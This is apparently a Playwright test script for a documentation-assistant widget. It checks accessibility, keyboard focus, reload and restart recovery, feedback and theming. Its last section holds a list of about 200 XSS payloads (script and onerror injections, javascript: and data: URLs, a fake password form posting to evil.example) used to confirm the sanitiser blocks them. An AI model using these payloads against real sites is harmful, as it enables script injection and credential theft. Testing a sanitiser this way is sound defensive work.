// The widget in a real browser, on a page with the strictest policy that docs/assistant/widget.mdx names: as a reader uses it, with the
// keyboard, on a phone, in the dark, from right to left, over a reload and a killed server, and with answers that want to do harm.
// Prints what is wrong, a line each.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { chromium } from "playwright-core";
import { complete, patient } from "./reader.mjs";

const { server, control, domain, key, slowDomain, slowKey, guardedDomain, guardedKey, endlessDomain, endlessKey, enter, chromium: executablePath } = JSON.parse(process.env.DOCENT_WIDGET);
const problems = [];
const check = (what, ok, got = "") => ok || problems.push(`${what} ${typeof got === "string" ? got.slice(0, 300) : JSON.stringify(got)}`);
const axe = readFileSync(new URL("./node_modules/axe-core/axe.min.js", import.meta.url), "utf8");

// The site: it allows scripts of its own and of Docent, and requests to Docent; no inline style, no inline script, nothing else.
const policy = `default-src 'none'; script-src 'self' ${server}; connect-src ${server}; base-uri 'none'; form-action 'none'`;
const site = createServer((req, res) => {
  const q = new URL(req.url, "http://x").searchParams;
  const attributes = [...q].filter(([name]) => name.startsWith("data-")).map(([name, value]) => ` ${name}="${value}"`).join("");
  res.setHeader("Content-Type", "text/html; charset=utf-8");
  res.setHeader("Content-Security-Policy", policy);
  if (req.url.startsWith("/favicon")) return res.writeHead(204).end();
  res.end(`<!doctype html><html lang="${q.get("lang") ?? "en"}" ${q.get("theme") ? `data-theme="${q.get("theme")}"` : ""}><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Site</title></head><body><main><h1>Site</h1><p id="para">Boats are moored with a rope.</p>
<pre id="snippet"><code>harbour moor BOAT</code></pre><button id="opener" data-docent-open="How do I moor a boat?">Ask how</button></main>
<script src="${server}/widget/v1.js" data-domain="${q.get("domain") ?? domain}" data-key="${q.get("key") ?? key}"${attributes} async></script></body></html>`);
});
await new Promise((resolve) => site.listen(0, "127.0.0.1", resolve));
const home = `http://127.0.0.1:${site.address().port}/guides/start`;

const browser = await chromium.launch({ executablePath, args: ["--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"] });

/** visit opens the site and watches what it loads and complains of. */
async function visit(name, options, query = {}) {
  const context = await browser.newContext({ viewport: { width: 1100, height: 800 }, ...options });
  context.setDefaultTimeout(60_000);
  await patient(context);
  const page = await context.newPage();
  const loaded = [];
  page.on("request", (r) => loaded.push(r.url()));
  page.on("pageerror", (error) => problems.push(`${name}: ${error}`));
  page.on("dialog", (dialog) => { problems.push(`${name}: a dialog said ${dialog.message()}`); dialog.dismiss(); });
  page.on("console", (m) => /Content.Security.Policy|violates|Refused to/i.test(m.text()) && problems.push(`${name}: ${m.text()}`));
  page.on("request", (r) => { const at = new URL(r.url()); if (![new URL(server).host, new URL(home).host].includes(at.host) && at.protocol.startsWith("http")) problems.push(`${name}: a request to ${r.url()}`); });
  await page.goto(`${home}?${new URLSearchParams(query)}`);
  await page.locator("docent-assistant").waitFor({ state: "attached" });
  return { context, page, loaded };
}

async function accessible(name, page) {
  await page.evaluate(axe); // by the debugger's protocol, which the page's policy does not bind
  const { violations } = await page.evaluate(() => axe.run({ resultTypes: ["violations"] }));
  for (const v of violations) problems.push(`${name}: ${v.help}: ${v.nodes.slice(0, 3).map((n) => n.html.slice(0, 160)).join(" | ")}`);
}

// A reader on a screen.
{
  const name = "a screen";
  const { context, page, loaded } = await visit(name, {}, { "data-contact": "help@harbour.example" });
  await page.getByRole("button", { name: "Ask the documentation" }).waitFor();
  const more = loaded.filter((url) => ![page.url(), `${server}/widget/v1.js`, `${server}/widget/settings/${domain}`].includes(url));
  check("before it is used, only the loader and the project's settings are there", more.length === 0, more);
  const frames = await page.evaluateHandle(() => window.requestAnimationFrame);
  await page.evaluate(() => { window.requestAnimationFrame = () => 0; }); // a busy page: its next frame takes long
  await page.keyboard.press("Control+k");
  const box = page.getByRole("combobox", { name: "Search or ask a question" });
  await box.waitFor();
  check("the input has the focus before the next frame", await box.evaluate((e) => e.getRootNode().activeElement === e));
  await frames.evaluate((f) => { window.requestAnimationFrame = f; });
  await accessible(`${name}, opened`, page);
  await box.fill("moor boat");
  await page.getByRole("option", { name: /Mooring/ }).first().waitFor();
  check("words found are marked", await page.locator("docent-assistant mark").count() > 0);
  await accessible(`${name}, found`, page);
  await page.keyboard.press("ArrowDown");
  check("an arrow chooses the first result", await page.getByRole("option").nth(1).getAttribute("aria-selected") === "true");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Enter");
  await complete(page);
  const answer = page.locator("article .answer").last();
  check("the answer", (await answer.textContent()).includes("harbour moor"), await answer.textContent());
  check("the sources are right under the first passage", await page.locator("article .answer").last().evaluate((e) => e.children[1]?.localName === "nav" && e.children[0].querySelector(".cite") !== null));
  check("the source leads to the page", (await page.locator(".sources a").first().getAttribute("href"))?.includes("/guides/mooring"), await page.locator(".sources a").first().getAttribute("href"));
  const mail = await page.getByRole("link", { name: "Contact a person" }).getAttribute("href");
  check("a person is asked with the conversation", mail.startsWith("mailto:help@harbour.example?subject=moor%20boat&body=") && decodeURIComponent(mail).includes("harbour moor"), mail);
  await accessible(`${name}, answered`, page);
  await page.getByRole("button", { name: "Not helpful" }).click();
  await page.getByRole("button", { name: "Not helpful", pressed: true }).waitFor(); // it is stored: its answer comes before that of the comment
  await page.getByLabel("What was wrong or missing?").fill("it does not say how long the rope is");
  await page.keyboard.press("Enter");
  await page.getByText("Thank you.").waitFor();
  await page.getByRole("textbox", { name: "Ask a follow-up question" }).fill("And how do I leave?");
  await page.keyboard.press("Enter");
  await page.locator("article").nth(1).waitFor();
  await complete(page);
  check("a follow-up is in the same conversation", await page.locator("article").count() === 2);
  let write; // the other answer waits until the first has gone from the page, which would pass for it
  const gone = new Promise((resolve) => { write = resolve; });
  await page.route("**/message", (route) => gone.then(() => route.continue()));
  await page.getByRole("button", { name: "Answer again" }).click();
  await page.locator("article:last-of-type[aria-busy=true]").waitFor();
  write();
  await complete(page);
  await page.unroute("**/message");
  check("another answer takes the place of the first", await page.locator("article").count() === 2);
  await page.reload();
  await page.locator("article").nth(1).waitFor();
  check("a reload keeps the conversation", await page.locator("article").count() === 2);
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "hidden" });
  await page.reload();
  await page.getByRole("button", { name: "Ask the documentation" }).waitFor(); // and with it what was open would open
  check("closed stays closed over a reload", await page.getByRole("dialog").count() === 0);
  await page.locator("#opener").click();
  await page.locator("article").nth(2).waitFor();
  await complete(page);
  await page.keyboard.press("Escape");
  check("the focus goes back", await page.evaluate(() => document.activeElement?.id) === "opener", await page.evaluate(() => document.activeElement?.outerHTML ?? ""));
  await page.locator("#snippet").selectText();
  await page.getByRole("button", { name: "Ask about this" }).click();
  check("what was selected is shown", (await page.locator(".foot .about").textContent()).includes("harbour moor BOAT"));
  const sent = page.waitForRequest((r) => r.method() === "POST" && r.url().endsWith("/message"));
  await page.getByRole("textbox").fill("What does this do?");
  await page.keyboard.press("Enter");
  const context0 = (await sent).postDataJSON();
  check("what was selected is sent", context0.context?.[0]?.type === "code" && context0.context[0].elementId === "snippet" && context0.currentPath === "/guides/start", context0);
  await complete(page);
  check("nothing is kept for longer than the tab", await page.evaluate(() => localStorage.length === 0 && document.cookie === ""));
  await context.close();
}

// Somebody has copied a link: its reader finds the question in the search, takes it to another client, or hands it over to people.
{
  const name = "a link with a question";
  const { context, page } = await visit(name, {}, { docent: "What does a zeppelin cost?", "data-open-in": "claude other" });
  const box = page.getByRole("combobox");
  await box.waitFor();
  check("the question is in the search, and not asked", await box.inputValue() === "What does a zeppelin cost?" && await page.locator("article").count() === 0);
  check("the address is the page's again", !page.url().includes("docent="), page.url());
  await box.fill("moor");
  await page.getByRole("option", { name: /Mooring/ }).first().waitFor();
  await page.evaluate(() => addEventListener("click", (event) => event.target.closest?.("body > a") && event.preventDefault(), true)); // the page is of another site
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").waitFor({ state: "hidden" });
  await page.keyboard.press("Control+k");
  await box.fill("");
  const recent = page.getByRole("navigation", { name: "Recent searches" }).getByRole("button", { name: "moor" });
  await recent.waitFor();
  await accessible(`${name}, recent searches`, page);
  await recent.click();
  check("a recent search is there again", await box.inputValue() === "moor");
  await box.fill("What does a zeppelin cost?");
  await page.keyboard.press("Enter");
  await page.locator("article[aria-busy=false]").getByRole("button", { name: "Contact a person" }).waitFor(); // nothing answers this: there are no sources
  const elsewhere = await page.getByRole("link", { name: "Open in Claude" }).getAttribute("href");
  check("the question goes elsewhere", elsewhere.startsWith("https://claude.ai/new?q=What%20does%20a%20zeppelin"), elsewhere);
  const hand = page.getByRole("button", { name: "Contact a person" });
  await hand.focus();
  await page.keyboard.press("Enter");
  const message = page.getByRole("textbox", { name: "Your message" });
  await message.waitFor();
  check("the form has the focus", await message.evaluate((e) => e.getRootNode().activeElement === e));
  check("the form is told of", await hand.getAttribute("aria-expanded") === "true");
  await accessible(`${name}, the form`, page);
  await message.fill("Is there a price list?");
  await page.getByRole("textbox", { name: "Email address" }).fill("not an address");
  await page.getByRole("button", { name: "Send" }).click();
  check("a wrong address is not sent", await message.isVisible());
  await page.getByRole("textbox", { name: "Email address" }).fill("ada@example.org");
  const sent = page.waitForRequest((r) => r.method() === "POST" && r.url().includes("/v1/contact/"));
  await page.keyboard.press("Enter");
  const body = (await sent).postDataJSON();
  check("what is sent", body.message === "Is there a price list?" && body.email === "ada@example.org" && body.public === false && /^thr_/.test(body.threadId) && /^msg_/.test(body.messageId), body);
  await page.getByText("Your message was sent.").waitFor();
  check("it is said to who hears", await page.getByText("Your message was sent.").evaluate((e) => e.getRootNode().activeElement === e));
  check("it is sent once", await hand.count() === 0);
  await accessible(`${name}, handed over`, page);
  await context.close();
}

// A question is cut where it goes to another client, also amid a character.
{
  const { context, page } = await visit("a long question", {}, { "data-open-in": "claude" });
  await page.evaluate(() => document.querySelector("docent-assistant").open(`${"x".repeat(1499)}\u{1f600}`));
  const href = await page.getByRole("link", { name: "Open in Claude" }).getAttribute("href");
  check("a long question goes elsewhere", href === `https://claude.ai/new?q=${"x".repeat(1499)}`, href);
  await context.close();
}

// The site has shortcuts of its own, runs its scripts again, and changes pages by replacing the body.
{
  const { context, page } = await visit("a site with a program of its own", {}, { "data-shortcut": "k" });
  await page.evaluate(() => { addEventListener("keydown", (event) => { if (event.ctrlKey && event.key === "k") { event.preventDefault(); document.title = "its own search"; } }); });
  await page.keyboard.press("Control+k");
  check("a shortcut of the site's goes first", await page.title() === "its own search" && await page.getByRole("dialog").count() === 0);
  await page.evaluate(() => { document.querySelector("docent-assistant").dataset.shortcut = "i"; });
  await page.keyboard.press("Control+i");
  await page.getByRole("combobox").waitFor();
  await page.keyboard.press("Escape");
  await page.evaluate(() => new Promise((resolve) => {
    const again = document.createElement("script"), first = document.querySelector("script[data-domain]");
    for (const { name, value } of first.attributes) again.setAttribute(name, value);
    again.onload = resolve;
    document.head.append(again);
  }));
  check("one script twice makes one widget", await page.locator("docent-assistant").count() === 1);
  await page.evaluate(() => { const body = document.createElement("body"); body.append(document.querySelector("main")); document.body.replaceWith(body); });
  await page.locator("docent-assistant").waitFor({ state: "attached" });
  await page.getByRole("button", { name: "Ask the documentation" }).click();
  await page.getByRole("combobox").waitFor();
  await context.close();
}

// On a phone in the dark; in Arabic; with a history.
for (const [name, options, query] of [
  ["a phone in the dark", { viewport: { width: 390, height: 800 }, colorScheme: "dark", hasTouch: true }, {}],
  ["a dark site", { colorScheme: "light" }, { theme: "dark" }],
  ["from right to left", {}, { lang: "ar", "data-history": "" }],
]) {
  const { context, page } = await visit(name, options, query);
  await page.getByRole("button", { name: "Ask the documentation" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.waitFor();
  await page.getByRole("combobox").fill("moor a boat");
  await page.getByRole("option").nth(1).waitFor();
  await page.keyboard.press("Enter");
  await complete(page);
  await accessible(name, page);
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  check(`${name}: the page is too wide by`, wide <= 0, wide);
  if (name.includes("dark")) check(`${name}: dark`, await page.locator("docent-assistant").getAttribute("data-shown") === "dark");
  if (query.lang) {
    check("right to left", await dialog.getAttribute("dir") === "rtl" && await dialog.getAttribute("lang") === "ar");
    await page.close();
    const later = await context.newPage();
    await later.goto(`${home}?${new URLSearchParams(query)}`);
    await later.getByRole("button", { name: "Ask the documentation" }).click();
    await later.getByText("محادثات سابقة").waitFor();
  }
  await context.close();
}

// A project that asks for a proof of work, and has stored how the widget looks.
{
  const name = "guarded";
  const { context, page, loaded } = await visit(name, {}, { domain: guardedDomain, key: guardedKey });
  const button = page.getByRole("button", { name: "Ask <us>" });
  await button.waitFor();
  const box = await button.boundingBox();
  check("the button is in the corner that was chosen", box.x < 100, box);
  const shown = await button.evaluate((e) => ({ color: getComputedStyle(e).color, background: getComputedStyle(e).backgroundColor }));
  check("the button has the colour that was chosen", shown.background === "rgb(122, 0, 0)" && shown.color === "rgb(255, 255, 255)", shown);
  await accessible(`${name}, closed`, page);
  await button.click();
  await page.getByText("Ahoy.").waitFor();
  check("the language that was chosen", await page.getByRole("dialog").getAttribute("lang") === "de");
  check("nothing is solved before anybody types", !loaded.some((l) => l.includes("/challenge") || l.includes("/proof.")), loaded);
  const solver = page.waitForRequest((r) => r.url().includes("/widget/proof."));
  await page.getByRole("combobox").pressSequentially("How");
  await solver;
  check("it is solved before it is asked", !loaded.some((l) => l.endsWith("/message")), loaded);
  const asked = (r) => r.method() === "POST" && r.url().endsWith("/message");
  const first = page.waitForRequest(asked);
  await page.getByRole("combobox").fill("");
  await page.getByRole("button", { name: "How do I moor a boat?" }).click(); // what is offered
  const one = (await first).headers()["x-altcha"];
  await complete(page);
  check("the answer", (await page.locator("article .answer").last().textContent()).includes("harbour moor"));
  await accessible(`${name}, answered`, page);
  const link = await page.locator(".sources a").first().evaluate((e) => getComputedStyle(e).color);
  check("links have the colour that was chosen", link === "rgb(122, 0, 0)", link);
  // A follow-up, whose solution was used meanwhile: another is found, and the reader sees nothing of it.
  let refused = 0;
  const solutions = [];
  await page.route("**/message", async (route) => {
    if (route.request().method() !== "POST") return route.continue();
    solutions.push(route.request().headers()["x-altcha"]);
    await (refused++ ? route.continue() : route.continue({ headers: { ...route.request().headers(), "x-altcha": one } }));
  });
  await page.getByRole("textbox").last().fill("And how do I leave?");
  await page.keyboard.press("Enter");
  await page.locator("article").nth(1).locator(".sources").waitFor();
  check("a solution that was used is made anew", refused === 2 && new Set([one, ...solutions]).size === 3, `${refused} questions, ${new Set(solutions).size} solutions`);
  await page.unroute("**/message");
  // Who is told to wait waits, and asks the same again.
  let waited = 0;
  const busy = (seconds) => ({ status: 503, headers: { "Access-Control-Allow-Origin": "*", "Access-Control-Expose-Headers": "Retry-After", "Retry-After": `${seconds}` }, json: { code: "overloaded", message: "busy" } });
  await page.route("**/message", (route) => waited++ ? route.continue() : route.fulfill(busy(1)));
  await page.getByRole("textbox").last().fill("What does it take?");
  await page.keyboard.press("Enter");
  await page.locator("article").nth(2).locator(".sources").waitFor();
  check("a question waits for a busy server", waited === 2 && await page.locator(".problem").count() === 0, waited);
  let searched = 0;
  await page.route("**/v1/search/**", (route) => route.request().method() === "POST" && !searched++ ? route.fulfill(busy(1)) : route.continue());
  await page.getByRole("button", { name: "Zurück zur Suche" }).click();
  await page.getByRole("combobox").fill("moor boat");
  await page.getByRole("option").nth(1).waitFor();
  check("a search waits for a busy server", searched === 2, searched);
  await context.close();
}

// The server is killed in the midst of an answer, and the page is reloaded in the midst of another: the whole answer is there, once.
for (const way of ["kill", "reload"]) {
  const { context, page } = await visit(way, {}, { domain: slowDomain, key: slowKey });
  await page.locator("#opener").click();
  await page.waitForFunction(() => (document.querySelector("docent-assistant").shadowRoot.querySelector(".answer")?.textContent ?? "").length > 40);
  if (way === "kill") check("restart", (await fetch(control + "/restart", { method: "POST" })).ok);
  else await page.reload();
  await page.locator("article[aria-busy=false]").waitFor();
  await page.getByRole("button", { name: "Helpful", exact: true }).waitFor();
  const text = (await page.locator(".answer").textContent()).trim();
  const parts = text.match(/part-\d+/g) ?? [];
  check(`${way}: the whole answer, once`, await page.locator("article").count() === 1 && parts.length === 60 && new Set(parts).size === 60, `${await page.locator("article").count()} articles, ${parts.length} parts`);
  await context.close();
}

// A question that is asked while another answer is written waits in the field, over a reload as well, and the answer goes on.
for (const way of ["closed", "reloaded"]) {
  const { context, page } = await visit(`a second question, ${way}`, {}, { domain: endlessDomain, key: endlessKey });
  const field = page.getByRole("textbox", { name: "Ask a follow-up question" });
  const written = () => page.waitForFunction((from) => {
    const n = (document.querySelector("docent-assistant").shadowRoot.querySelector(".answer")?.textContent ?? "").length;
    return n > from && n;
  }, before).then((n) => n.jsonValue());
  let before = 40;
  await page.locator("#opener").click();
  before = await written();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "hidden" });
  if (way === "reloaded") await page.reload();
  await page.locator("#opener").click();
  await field.waitFor();
  before = await written();
  check(`${way}: the second question waits`, await field.inputValue() === "How do I moor a boat?" && await page.locator("article").count() === 1, `${await page.locator("article").count()} articles, ${await field.inputValue()}`);
  await page.getByRole("button", { name: "Stop" }).click();
  await page.locator("article[aria-busy=false]").waitFor();
  await field.focus();
  await page.keyboard.press("Enter");
  await page.locator("article").nth(1).waitFor();
  await context.close();
}

// The comment to a rating holds, however late the rating itself is stored.
{
  const { context, page } = await visit("a rating that is late", {});
  await page.locator("#opener").click();
  await complete(page);
  const sent = [];
  let store;
  const late = new Promise((resolve) => { store = resolve; });
  await page.route("**/feedback/**", async (route) => {
    if (sent.push(route.request().postDataJSON()) === 1) await late;
    await route.continue();
  });
  await page.getByRole("button", { name: "Not helpful" }).click();
  await page.getByLabel("What was wrong or missing?").fill("no picture");
  await page.keyboard.press("Enter");
  check("the comment waits for the rating", sent.length <= 1, sent);
  store();
  await page.getByText("Thank you.").waitFor();
  check("the comment is stored last", sent.length === 2 && sent[1].comment === "no picture", sent);
  check("it is asked for once", await page.getByLabel("What was wrong or missing?").count() === 0);
  await context.close();
}

// Answers, titles and questions that want to do harm: nothing runs, nothing is fetched, nothing but reading is offered. The answer is
// put in place of the server's, as a model or a page that was taken over would write it.
{
  const { context, page } = await visit("hostile", {});
  const cases = hostileCases();
  const text = cases.map((c, i) => `#### case ${i}\n\n${c}\n\n`).join("");
  const events = [{ type: "start", messageId: "msg_<img src=x onerror=ran()>", messageMetadata: { threadId: "thr_x" } }, { type: "text-start", id: "t" },
    ...text.match(/[^]{1,500}/g).map((delta) => ({ type: "text-delta", id: "t", delta })), { type: "text-end", id: "t" },
    { type: "source-url", sourceId: "1", url: "javascript:ran()", title: "<img src=x onerror=ran()>" },
    { type: "source-url", sourceId: "2", url: "data:text/html,<script>ran()</script>", title: "\"><script>ran()</script>" },
    { type: "source-url", sourceId: "3", url: "https://docs.example.com/ok", title: "fine" }, { type: "finish" }];
  const cors = { "Access-Control-Allow-Origin": "*" };
  await page.route("**/message", (route) => route.fulfill({ status: 200, headers: { ...cors, "Content-Type": "text/event-stream" }, body: events.map((e) => `data: ${JSON.stringify(e)}\n\n`).join("") }));
  await page.route("**/v1/search/**", (route) => route.fulfill({ status: 200, headers: cors, json: [
    { path: "javascript:ran()", content: "<img src=x onerror=ran()> boats", metadata: { title: "<svg onload=ran()>", url: "javascript:ran()", heading: "</strong><script>ran()</script>" } }] }));
  await page.evaluate(() => { window.happened = []; window.ran = (...a) => window.happened.push(a.join() || "ran"); });
  await page.getByRole("button", { name: "Ask the documentation" }).click();
  await page.getByRole("combobox").fill("<img src=x onerror=ran()> boats (((");
  await page.getByRole("option").nth(1).waitFor();
  await page.getByRole("option").nth(1).click(); // an address that would run a program leads nowhere
  await page.getByRole("option").nth(0).click();
  await complete(page);
  for (const a of await page.locator(".answer a").all()) await a.dispatchEvent("mouseover");
  const found = await page.evaluate(() => {
    const root = document.querySelector("docent-assistant").shadowRoot;
    const bad = [];
    for (const e of root.querySelectorAll("article *")) {
      const outside = e.closest(".tools,form");
      if (!outside && /^(script|style|iframe|object|embed|img|image|svg|math|form|input|select|textarea|link|meta|base|video|audio|source|template|dialog)$/i.test(e.tagName)) bad.push(e.outerHTML.slice(0, 120));
      for (const a of e.attributes) {
        if (/^on|^style$|^srcset$|^formaction$|^background$|^ping$/i.test(a.name)) bad.push(`${e.tagName} ${a.name}`);
        if (/^(href|src|action|xlink:href)$/i.test(a.name) && !/^(https?:|mailto:|\/(?!\/)|#)/i.test(a.value)) bad.push(`${e.tagName} ${a.name}=${a.value}`.slice(0, 120));
        if (!outside && a.name === "id") bad.push(`${e.tagName} id=${a.value}`);
      }
    }
    return { bad, shown: root.querySelectorAll(".answer h4").length, happened: window.happened };
  });
  check("hostile answers leave behind", found.bad.length === 0, found.bad.slice(0, 5));
  check("hostile answers ran", found.happened.length === 0, found.happened);
  check("all hostile cases are on the page", found.shown === cases.length && cases.length >= 200, `${found.shown} of ${cases.length}`);
  check("what is harmless is there", await page.locator(".answer").getByText("the end of the harm").count() === 1);
  await context.close();
}

// The console shows the widget as it is changed, under the console's own policy, and what is stored there reaches the site.
{
  const context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
  context.setDefaultTimeout(60_000);
  await patient(context);
  const page = await context.newPage();
  page.on("pageerror", (error) => problems.push(`console: ${error}`));
  page.on("console", (m) => /Content.Security.Policy|violates|Refused to/i.test(m.text()) && problems.push(`console: ${m.text()}`));
  await page.goto(enter);
  if (await page.locator("main form button").count()) await page.locator("main form button").first().click();
  await page.waitForURL(/console/);
  await page.goto(`${server}/console/default/${domain}/widget`);
  const button = page.locator("docent-assistant").getByRole("button", { name: "Ask the documentation" });
  await button.waitFor();
  check("the console shows the tag", (await page.locator("pre", { hasText: "/widget/v1.js" }).first().textContent()).includes(`data-domain="${domain}"`));
  await accessible("console, the widget's page", page);
  await page.getByLabel("Color", { exact: true }).fill("#ffcc00");
  await page.getByLabel("Button label").fill("Ahoy");
  await page.getByText("It is hard to read").waitFor();
  const ahoy = page.locator("docent-assistant").getByRole("button", { name: "Ahoy" });
  await ahoy.waitFor();
  const yellow = await ahoy.evaluate((e) => [getComputedStyle(e).backgroundColor, getComputedStyle(e).color].join());
  check("the preview has the colour", yellow === "rgb(255, 204, 0),rgb(0, 0, 0)", yellow);
  await accessible("console, a pale colour", page);
  await page.getByLabel("Color", { exact: true }).fill("#1f6f5c");
  await page.getByLabel("Contact").fill("help@harbour.example");
  await page.getByLabel("Greeting").fill("Welcome <aboard>");
  await page.waitForFunction(() => document.querySelector("docent-assistant")?.dataset.greeting === "Welcome <aboard>" && !document.querySelector("#preview .warn"));
  await ahoy.click();
  await page.getByText("Welcome <aboard>").waitFor();
  await page.locator("docent-assistant").getByRole("combobox").fill("How do I moor a boat?");
  await page.keyboard.press("Enter");
  await page.locator("article .sources").waitFor();
  check("the preview answers from the project", (await page.locator("article .answer").textContent()).includes("harbour moor"));
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByText("Widget saved.").waitFor();
  await context.close();
  const there = await visit("stored", {});
  await there.page.getByRole("button", { name: "Ahoy" }).click();
  await there.page.getByText("Welcome <aboard>").waitFor();
  const accent = await there.page.locator("docent-assistant").evaluate((e) => getComputedStyle(e).getPropertyValue("--docent-accent"));
  check("what was stored reaches the site", accent === "#1f6f5c", accent);
  await there.context.close();
  const other = await visit("the page's own tag", {}, { "data-label": "Mine", "data-accent": "#123456" });
  await other.page.getByRole("button", { name: "Mine" }).waitFor();
  check("the page's own tag goes before", (await other.page.locator("docent-assistant").getAttribute("data-accent")) === "#123456");
  await other.context.close();
}

/** hostileCases are scripts, styles, links, images and tricks of Markdown, each in several spellings. */
function hostileCases() {
  const elements = ["<script>ran()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>ran()</script>", "<img src=x onerror=ran()>", "<img src=https://evil.example/a.png>", "<img srcset='https://evil.example/b.png 2x'>",
    "<svg onload=ran()></svg>", "<svg><script>ran()</script></svg>", "<svg><a xlink:href='javascript:ran()'><text>x</text></a></svg>", "<svg><use href='https://evil.example/x.svg#a'></use></svg>", "<svg><animate onbegin=ran() attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>", "<math href='javascript:ran()'>x</math>", "<iframe src='javascript:ran()'></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='https://evil.example/'></object>", "<embed src='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>@import 'https://evil.example/x.css';*{display:none}</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>", "<form action='https://evil.example'><input name=p type=password><button>Sign in</button></form>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()><option>x</select>", "<textarea autofocus onfocus=ran()>x</textarea>",
    "<button formaction='javascript:ran()'>x</button>", "<details open ontoggle=ran()><summary>x</summary></details>", "<video src=x onerror=ran()></video>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()></audio>", "<body onload=ran()>", "<marquee onstart=ran()>x</marquee>",
    "<a href='javascript:ran()'>x</a>", "<a href='JaVaScRiPt:ran()'>x</a>", "<a href='java\tscript:ran()'>x</a>", "<a href='&#106;avascript:ran()'>x</a>", "<a href=' javascript:ran()'>x</a>", "<a href='\u0001javascript:ran()'>x</a>", "<a href='vbscript:ran()'>x</a>", "<a href='data:text/html,<script>ran()</script>'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>", "<a href='//evil.example'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='https://ok.example' onclick=ran()>x</a>", "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>", "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>", "<p id=open name=open>x</p>", "<p class='open'>x</p>", "<table background='https://evil.example/x.png'><tr><td>x</table>", "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>", "<template><img src=x onerror=ran()></template>",
    "<dialog open>x</dialog>", "<isindex action='javascript:ran()'>", "<xss onmouseover=ran() tabindex=1>x</xss>", "<docent-assistant data-domain=evil data-server=https://evil.example></docent-assistant>", "<!--><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>", "<p><svg><style><img src=x onerror=ran()></style></svg></p>"];
  const links = ["javascript:ran()", "JAVASCRIPT:ran()", "javascript&colon;ran()", "java&Tab;script:ran()", "&#x6A;avascript:ran()", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "vbscript:ran()", "//evil.example/", "file:///etc/passwd", "<javascript:ran()>", "x\" onmouseover=\"ran()", "https://ok.example/\" onclick=\"ran()"];
  const list = [];
  for (const e of elements) list.push(e, `- item ${e}`, `> quote ${e}`);
  for (const l of links) list.push(`[x](${l})`, `![x](${l})`, `[x][r]\n\n[r]: ${l}`);
  list.push("<https://ok.example/><img src=x onerror=ran()>", "`<img src=x onerror=ran()>`", "```html\n<img src=x onerror=ran()>\n```", "|a|\n|-|\n|<img src=x onerror=ran()>|", "```\"><script>ran()</script>\nx\n```", "the end of the harm");
  return list;
}

await browser.close();
site.close();
for (const p of problems) console.log(p);
